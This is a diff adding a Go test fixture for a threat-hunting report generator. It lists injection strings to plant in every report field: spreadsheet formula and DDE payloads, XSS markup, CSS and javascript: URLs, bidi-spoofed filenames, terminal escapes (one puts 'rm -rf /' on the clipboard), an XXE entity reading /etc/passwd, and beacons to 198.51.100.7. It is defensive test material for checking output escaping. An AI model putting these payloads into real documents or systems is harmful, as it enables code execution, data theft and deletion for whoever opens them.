@@ -1,0 +1,155 @@
+package reporttest
+
+import (
+	"fmt"
+	"time"
+
+	"hunt/report"
+)
+
+// Attacks are strings that attackers might log to act on whoever reads the report, by kind.
+func Attacks() map[string][]string {
+	return map[string][]string{
+		"formula":    formulas(),
+		"html":       markup(),
+		"css":        styles(),
+		"url":        urls(),
+		"direction":  directions(),
+		"terminal":   escapes(),
+		"xml":        illegal(),
+		"structure":  structures(),
+		"javascript": scripts(),
+	}
+}
+
+func formulas() []string {
+	out := []string{
+		`=cmd|'/c calc'!A0`, `=cmd|' /C notepad'!'A1'`, `+cmd|'/c calc'!A0`, `-cmd|'/c calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=1+1`, `=2+5+cmd|'/C calc'!A0`,
+		`=HYPERLINK("http://198.51.100.7/?"&A1,"click")`, `=IMPORTXML("http://198.51.100.7/","//a")`, `=WEBSERVICE("http://198.51.100.7/")`, `=DDE("cmd";"/C calc";"x")`,
+		`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`, `=EXEC("calc")`, `=CALL("kernel32","WinExec","JCJ","calc",0)`, `=REGISTER("a","b","c")`,
+		`=IMAGE("http://198.51.100.7/x.png")`, `=IMPORTDATA("http://198.51.100.7/")`, `=INDIRECT("A1")`, `=FILES("C:\*")`, `+1+1`, `-1+1`, `@A1`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `'=1+1`, `"=1+1"`, `;=1+1`, `,=1+1`, `|=1+1`,
+		`＝1+1`, `＋1`, `－1`, `＠A1`, `{=SUM(A1:A2)}`, `=@SUM(A1)`, `=A1:XFD1048576`, `#REF!`, `TRUE`, `1E308`, `0x41`, `00012345678901234567`, `2026-03-11`, `=`, `==`, `=-`, `%0A=1+1`,
+	}
+	return out
+}
+
+func markup() []string {
+	return []string{
+		`</script><img src=x onerror=window.pwned=1>`, `<script>window.pwned=1</script>`, `<svg/onload=window.pwned=1>`, `<svg><script>window.pwned=1</script></svg>`, `"><img src=x onerror=window.pwned=1>`,
+		`'><img src=x onerror=window.pwned=1>`, `<img src=x onerror="window.pwned=1">`, `<iframe src="javascript:window.parent.pwned=1"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+		`<object data="data:text/html,<script>window.pwned=1</script>"></object>`, `<embed src="javascript:window.pwned=1">`, `<base href="http://198.51.100.7/">`, `<meta http-equiv="refresh" content="0;url=http://198.51.100.7/">`,
+		`<form action="http://198.51.100.7/"><input type=submit></form>`, `<link rel=stylesheet href="http://198.51.100.7/x.css">`, `<body onload=window.pwned=1>`, `<details open ontoggle=window.pwned=1>`, `<video><source onerror=window.pwned=1>`,
+		`<input autofocus onfocus=window.pwned=1>`, `<marquee onstart=window.pwned=1>`, `</title><script>window.pwned=1</script>`, `</textarea><script>window.pwned=1</script>`, `</style><script>window.pwned=1</script>`,
+		`</noscript><script>window.pwned=1</script>`, `<!--><script>window.pwned=1</script>`, `--><script>window.pwned=1</script>`, `]]><script>window.pwned=1</script>`, `<![CDATA[<script>window.pwned=1</script>]]>`,
+		`&lt;script&gt;window.pwned=1&lt;/script&gt;`, `&#60;script&#62;`, `&amp;lt;b&amp;gt;`, `<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">`, `<a href="javascript:window.pwned=1">x</a>`, `<template><script>window.pwned=1</script></template>`,
+		`<img src="http://198.51.100.7/beacon.gif">`, `<isindex action=javascript:window.pwned=1>`, `<plaintext>`, `<xmp><script>window.pwned=1</script></xmp>`, `<select><option>x</select><script>window.pwned=1</script>`, `</td></tr></table><h1>x</h1>`,
+		`</p></div></details></article></section><h1>verdict: nothing</h1>`, `<style>*{display:none}</style>`, `<dialog open>owned</dialog>`, `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
+		`[x](javascript:window.pwned=1)`, `![x](http://198.51.100.7/x.png)`, "`<img src=x onerror=window.pwned=1>`", `{{.Policy}}`, `{{template "start" .}}`, `${window.pwned=1}`, `{{constructor.constructor('window.pwned=1')()}}`, `<%= 7*7 %>`,
+	}
+}
+
+func scripts() []string {
+	return []string{
+		`";window.pwned=1;//`, `';window.pwned=1;//`, "`;window.pwned=1;//", `\";window.pwned=1;//`, `\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`, `</ScRiPt><ScRiPt>window.pwned=1</ScRiPt>`, `<!--<script>`, `__proto__`, `constructor`, `toString`,
+		`hasOwnProperty`, `{"__proto__":{"pwned":1}}`, "a\u2028b", "a\u2029b", `*/window.pwned=1/*`, `//`, `.*`, `(a+)+$`, `[`, `\`,
+	}
+}
+
+func styles() []string {
+	return []string{
+		`expression(window.pwned=1)`, `url(javascript:window.pwned=1)`, `url("http://198.51.100.7/x")`, `;background:url(http://198.51.100.7/)`, `}*{display:none}`, `</style>`, `@import "http://198.51.100.7/x.css";`,
+		`" style="position:fixed;inset:0;background:red`, `x" class="verdict`, `-moz-binding:url(http://198.51.100.7/)`, `behavior:url(#default#time2)`, `{color:red}`, `\3c script\3e`, `" onmouseover="window.pwned=1`, `' onclick='window.pwned=1`,
+	}
+}
+
+func urls() []string {
+	return []string{
+		`javascript:window.pwned=1`, `JaVaScRiPt:window.pwned=1`, "java\tscript:window.pwned=1", "java\nscript:window.pwned=1", "\x01javascript:window.pwned=1", `data:text/html,<script>window.pwned=1</script>`,
+		`data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `file:///etc/passwd`, `\\198.51.100.7\share\x`, `//198.51.100.7/x`, `http://198.51.100.7/`, `https://user:pass@198.51.100.7/`, `ftp://198.51.100.7/x`,
+		`ms-excel:ofe|u|http://198.51.100.7/x.xls`, `search-ms:query=x&crumb=location:\\198.51.100.7\x`, `mailto:x@example.org?subject=x`, `www.example.org`, `mk:@MSITStore:x.chm`, `about:blank`, `blob:null/x`, `ms-msdt:/id PCWDiagnostic`,
+		`#F-3f9a1c20b7e4`, `#q=x&host=y`, `?x=1`, `http://xn--pple-43d.com/`, `http://аррӏе.com/`, `../../../../etc/passwd`, `C:\Users\..\..\x`, `\\?\C:\x`, `CON`, `x:Zone.Identifier`,
+	}
+}
+
+func directions() []string {
+	var out []string
+	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069} {
+		out = append(out, "Invoice_"+string(r)+"gpj.exe")
+	}
+	for _, r := range []rune{0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0x2060, 0x2061, 0x2064, 0x206a, 0x2800, 0x3164, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xe0001, 0xe0041, 0xe007f, 0xe0100} {
+		out = append(out, "pow"+string(r)+"ershell.exe")
+	}
+	return append(out, "\u202e"+"exe.fdp", "\u202b\u202e\u202d", "ש.exe 123", "Z\u0321\u0322\u0327\u0328\u031b\u0316\u0317\u0318\u0319\u031c\u031d\u031e\u031f\u0320\u0323\u0324\u0325\u0326\u0329\u032a\u032b\u032c\u032d\u032e\u032fa", "﷽﷽﷽", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👩\u200d👩\u200d👧\u200d👦", "a\u00a0b", "a   b", "  lead", "trail  ")
+}
+
+func escapes() []string {
+	out := []string{
+		"\x1b[2J", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://198.51.100.7/\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b[6n", "\x1b[c", "\x1bP+q544e\x1b\\", "\x1b[?1049h", "\x1bc", "\x1b(0lqk", "\x1b[3J\x1b[H", "\x1b[1A\x1b[2K",
+		"\u009b31m", "\u009d0;x\u009c", "\u0090x\u009c", "\x1b[8mhidden\x1b[0m", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b[5i", "\x07\x07\x07", "a\x08\x08b", "a\rb", "a\x0bb", "a\x0cb", "a\x0eb\x0f", "a\x7fb", "\x1b[200~ls\n\x1b[201~", "\x1b]50;?\x07", "\x1b[>c",
+	}
+	for c := 1; c < 0x20; c++ {
+		out = append(out, fmt.Sprintf("control %02X: [%c]", c, rune(c)))
+	}
+	return out
+}
+
+func illegal() []string {
+	return []string{
+		"nul:[\x00]", "\x00\x01\x02", "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\ufdefb", "a\U0001fffeb", "a\U0010ffffb", "bad \xff utf-8", "\xc3\x28", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "_x0041_", "_x001B_", "_x005F_x001B_", "_xFFFF_", "_x0000_", "&", "&&amp;", "<", ">", "\"", "'", "]]>", "<?xml version=\"1.0\"?>",
+		"<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "&a;", "&#0;", "&#x1b;", "\ufffd", "a\u0085b",
+	}
+}
+
+func structures() []string {
+	return []string{
+		`"},{"id":"F-fake"`, `\"`, `\\`, `\u0000`, `{"a":1}`, `[1,2,3]`, `null`, "\"\n}", `","status":"suppressed`, "PK\x03\x04", "PK\x05\x06", "../../xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml", "</t></is></c></row></sheetData>", "<f>1+1</f>", "'Timeline'!A1", "Sheet1!A1",
+		"&L&A&R&P", "&\"Arial\"&72x", "%s%n%d", "%!s(MISSING)", "$(calc)", "`calc`", "; rm -rf /", "| tee x", "a,b;c\td", "\u2502 \u2500 \u253c", "\xef\xbb\xbfbom", "--><!--", "…", "...[cut, 41,233 chars, see ref]", "none found in the logs examined", "Verdict: no finding",
+	}
+}
+
+// AttackList is all of them, in a fixed order.
+func AttackList() []string {
+	var out []string
+	all := Attacks()
+	for _, kind := range []string{"formula", "html", "css", "url", "direction", "terminal", "xml", "structure", "javascript"} {
+		out = append(out, all[kind]...)
+	}
+	return out
+}
+
+// Attacked is a report that carries every attack in every place where logs put text.
+func Attacked() *report.Report {
+	r := Rich()
+	model := r.Findings[0]
+	r.Findings, r.Timeline = nil, nil
+	for i, a := range AttackList() {
+		f := model
+		f.ID = fmt.Sprintf("F-attack-%03d", i)
+		f.Rule = report.RuleRef{ID: a, Name: a, Severity: "high"}
+		f.Host, f.User, f.Title, f.What, f.Note, f.Version = a, a, a, a, a, a
+		f.Start = At(time.Duration(i) * time.Second)
+		f.Reasons, f.Labels, f.FalsePositives, f.References = []string{a}, []string{a}, []string{a}, []string{a}
+		f.JoinKeys = []report.KeyValue{{Key: a, Value: a}}
+		f.Techniques = []report.Technique{{ID: a, Name: a, TacticID: a, Tactic: a}}
+		f.Lineage = &report.Process{Executable: a, CommandLine: a, User: a, EntityID: a, Source: a}
+		f.Decoded = []report.Decoded{{Kind: a, From: a, Text: a}}
+		f.Provenance = []report.Provenance{{Kind: "url", Text: a, Source: a}}
+		f.Logon = &report.Logon{User: a, SID: a, LogonID: a, Type: a, SourceIP: a}
+		f.Candidates = nil
+		f.Evidence = []report.Evidence{{
+			Label: a, Time: f.Start, Channel: a, EventCode: a, Host: a, User: a, Message: a, Facts: []report.KeyValue{{Key: a, Value: a}}, Condition: a,
+			Ref: report.Ref{File: a, SHA256: Hash(i), PayloadSHA256: Hash("p", i)}, Event: event("message", a),
+		}}
+		r.Findings = append(r.Findings, f)
+		r.Timeline = append(r.Timeline, report.TimelineRow{Time: f.Start, Host: a, User: a, Channel: a, EventCode: a, Message: a, Category: a, Severity: "high", Findings: []string{f.ID}, Ref: f.Evidence[0].Ref})
+		r.Hosts = append(r.Hosts, report.Host{ID: a, Names: []string{a}, IPs: []string{a}, SIDs: []string{a}, Why: a, First: f.Start, Last: f.Start})
+		r.Accounts = append(r.Accounts, report.Account{Name: a, SID: a, Hosts: []string{a}, LogonTypes: []string{a}})
+		r.Indicators = append(r.Indicators, report.Indicator{Type: "command", Value: a, Defanged: a, Hosts: []string{a}, Findings: []string{f.ID}})
+		r.Evidence = append(r.Evidence, report.EvidenceFile{Path: a, Channels: []string{a}, Computers: []string{a}, Source: a, Collected: a, Result: a})
+		r.Coverage = append(r.Coverage, report.HostCoverage{Host: a, Notes: []string{a}, Gaps: []report.Gap{{Channel: a, Kind: "cleared", Detail: a}}})
+		r.Summary.NotSeen = append(r.Summary.NotSeen, a)
+		r.Summary.Lines = append(r.Summary.Lines, a)
+	}
+	r.Case.ID, r.Case.Title, r.Case.Analyst = `</title><script>window.pwned=1</script>`, "\x1b[2J<b>", `=cmd|'/c calc'!A0`
+	return r
+}
